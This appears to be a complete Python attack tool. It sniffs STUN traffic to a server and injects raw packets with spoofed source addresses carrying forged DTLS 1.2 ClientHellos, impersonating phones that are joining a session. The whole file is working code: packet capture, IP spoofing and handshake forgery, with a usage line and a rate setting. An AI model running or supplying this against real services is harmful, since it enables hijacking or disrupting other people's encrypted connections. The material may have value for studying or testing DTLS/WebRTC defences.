"""Forges DTLS hellos in the name of whoever joins: as somebody can who is in a phone's network and knows its port.

Usage: forger.py DEVICE BOX_ADDRESS PER_SECOND
Watches DEVICE for STUN to BOX_ADDRESS and sends hellos from each address it sees there, until it is ended. Needs the right to send
raw packets. Prints a line when it watches, and then the number of hellos, each time it has sent a few. Answers are not its to see, and
it hears none.
"""

import os
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800
ETHERNET_BYTES = 14
UDP = 17
STUN_COOKIE = bytes([0x21, 0x12, 0xA4, 0x42])

# Phones join within this time of their last check; later nobody's hello matters.
FRESH_S = 3.0

# Hellos of one line.
TOLD = 10


def extension(kind, body):
    return struct.pack("!HH", kind, len(body)) + body


def hello():
    """A ClientHello of DTLS 1.2 that any server follows; no two are alike."""
    suites = struct.pack("!HHHHHH", 10, 0xC02B, 0xC02F, 0xC00A, 0xC014, 0xC009)
    extensions = b"".join([
        extension(10, struct.pack("!HHH", 4, 29, 23)),
        extension(11, b"\x01\x00"),
        extension(13, struct.pack("!HHH", 4, 0x0403, 0x0401)),
        extension(14, struct.pack("!HHHB", 4, 8, 1, 0)),
        extension(23, b""),
        extension(0xFF01, b"\x00"),
    ])
    body = b"\xfe\xfd" + os.urandom(32) + b"\x00\x00" + suites + b"\x01\x00"
    body += struct.pack("!H", len(extensions)) + extensions
    length = len(body).to_bytes(3, "big")
    message = b"\x01" + length + b"\x00\x00" + b"\x00\x00\x00" + length + body
    return b"\x16\xfe\xff" + b"\x00" * 8 + struct.pack("!H", len(message)) + message


def datagram(source, target, payload):
    """An IPv4 packet with these ends; the kernel sums its header, and UDP goes without a sum."""
    udp = struct.pack("!HHHH", source[1], target[1], 8 + len(payload), 0) + payload
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, UDP, 0)
    return head + socket.inet_aton(source[0]) + socket.inet_aton(target[0]) + udp


def seen(frame, box):
    """Source and target of a STUN packet to the box."""
    packet = frame[ETHERNET_BYTES:]
    if len(packet) < 36 or packet[9] != UDP or socket.inet_ntoa(packet[16:20]) != box or packet[32:36] != STUN_COOKIE:
        return None
    source, target = struct.unpack("!HH", packet[20:24])
    return (socket.inet_ntoa(packet[12:16]), source), (box, target)


def forge(device, box, per_second):
    watch = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
    watch.bind((device, 0))
    send = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    print("watching", flush=True)
    phones = {}
    sent, due = 0, time.monotonic()
    while True:
        now = time.monotonic()
        watch.settimeout(max(due - now, 0.0001))
        try:
            found = seen(watch.recv(2048), box)
            if found:
                phones[found] = time.monotonic()
        except (TimeoutError, BlockingIOError):
            pass
        now = time.monotonic()
        if now >= due:
            due = max(due + 1 / per_second, now - 0.1)
            phones = {ends: at for ends, at in phones.items() if now - at < FRESH_S}
            for source, target in phones:
                send.sendto(datagram(source, target, hello()), (target[0], 0))
                sent += 1
        if sent >= TOLD:
            print(sent, flush=True)
            sent = 0


if __name__ == "__main__":
    forge(sys.argv[1], sys.argv[2], float(sys.argv[3]))
